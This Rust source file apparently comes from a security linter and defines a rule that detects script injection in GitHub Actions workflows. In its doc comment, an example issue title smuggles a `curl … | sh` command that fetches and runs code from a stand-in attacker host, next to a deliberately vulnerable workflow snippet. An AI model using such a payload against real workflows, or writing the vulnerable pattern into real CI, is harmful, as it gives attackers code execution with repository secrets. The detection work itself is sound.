use trustmap_model::Model;
use trustmap_model::gha::{Expression, Scalar};

use super::sites::{Site, all_sites};
use super::taint::{self, Kind, Scope, Taint};
use crate::{Related, Rule, RuleMeta, Sink, declare_rule};

declare_rule! {
    /// ## What it finds
    ///
    /// A `${{ … }}` expression that pastes attacker-controlled text into a script.
    ///
    /// The script is a `run:`, or an action input evaluated as code: `script:` of
    /// `actions/github-script` and `Amadevus/pwsh-script`, `cmd:` of `mikefarah/yq` — that
    /// expands a value an outsider writes: issue, pull request, comment, review and discussion
    /// titles and bodies, branch names (`github.head_ref`, `…head.ref`,
    /// `workflow_run.head_branch`), commit messages and author names, wiki page names.
    ///
    /// The value is followed through any number of hops: `env:` at workflow, job and step
    /// level (`TITLE: ${{ github.event.issue.title }}`, then `${{ env.TITLE }}`), variables an
    /// earlier step writes to `$GITHUB_ENV`, step outputs (`echo "title=${{ … }}" >>
    /// "$GITHUB_OUTPUT"`, then `${{ steps.meta.outputs.title }}`), job outputs (`${{
    /// needs.meta.outputs.title }}`), and the `inputs` of composite actions and reusable
    /// workflows of the same repository, whose steps are checked with their caller's values.
    /// A value that only feeds a comparison or `contains(…)` passes: the expression then
    /// expands to `true` or `false`.
    ///
    /// ## Why it matters
    ///
    /// GitHub pastes the expression's value into the script text before the shell runs it. An
    /// issue titled `"; curl -sSf https://evil.example/x | sh; echo "` becomes shell code
    /// running in your workflow, with its `GITHUB_TOKEN`, its secrets and its runner. Anyone on
    /// the internet can open an issue or name a branch; no review stands in the way.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "New issue: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Fix
    ///
    /// Pass the value through an environment variable and quote it in the shell, so it stays
    /// data:
    ///
    /// ```yaml
    ///       - env:
    ///           TITLE: ${{ github.event.issue.title }}
    ///         run: echo "New issue: $TITLE"
    /// ```
    ///
    /// In `actions/github-script`, read `context.payload.issue.title` instead of templating it.
    ///
    /// ## References
    ///
    /// - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script injections"
    pub(crate) GhaScriptInjection {
        id: "GHA-002",
        name: "gha-script-injection",
        severity: High,
        capability: Failure,
        languages: [GithubActions],
        equivalents: {
            checkov: ["CKV_GHA_2"],
            cwe: ["CWE-94", "CWE-78"],
            zizmor: ["template-injection"],
            poutine: ["injection"],
        },
    }
}

impl Rule for GhaScriptInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, model: &Model, out: &mut Sink) {
        for site in all_sites(model) {
            let step = site.step;
            let mut sinks: Vec<(&Scalar, String)> = Vec::new();
            if let Some(run) = &step.run {
                sinks.push((run, "the `run` script".to_string()));
            }
            for (action, input) in CODE_INPUTS {
                if step.uses_action(action)
                    && let Some(code) = step.input(input)
                {
                    sinks.push((&code.value, format!("the `{input}` input of `{action}`")));
                }
            }
            if sinks.is_empty() {
                continue;
            }
            let scope = Scope::step(&site);
            let mut clean = true;
            for (scalar, place) in sinks {
                for e in &scalar.expressions {
                    if let Some((path, t)) = taint::expression(&scope, e, Kind::Attacker) {
                        clean = false;
                        report(out, &site, e, &path, t, &place);
                    }
                }
            }
            if clean {
                out.pass_at(site.resource().span);
            }
        }
    }
}

/// Action inputs that are evaluated as code: (action, input).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("Amadevus/pwsh-script", "script"),
    ("mikefarah/yq", "cmd"),
];

fn report(out: &mut Sink, site: &Site<'_>, e: &Expression, path: &str, t: Taint, place: &str) {
    let message = if t.hops.is_empty() {
        format!("attacker-controlled `{path}` is expanded into {place}")
    } else {
        let shown = t.display.clone().unwrap_or_else(|| path.to_string());
        format!(
            "`{shown}` holds attacker-controlled `{}` and is expanded into {place}",
            t.source
        )
    };
    let f = out.report(site.resource(), e.span, &[], message);
    f.related.extend(t.hops);
    if let Some(entry) = site.entry()
        && let (Some(u), Some(job)) = (&entry.uses, site.job)
    {
        f.related.push(Related {
            span: u.span,
            note: format!("the action runs in `{}` from here", job.meta.address),
        });
    }
}
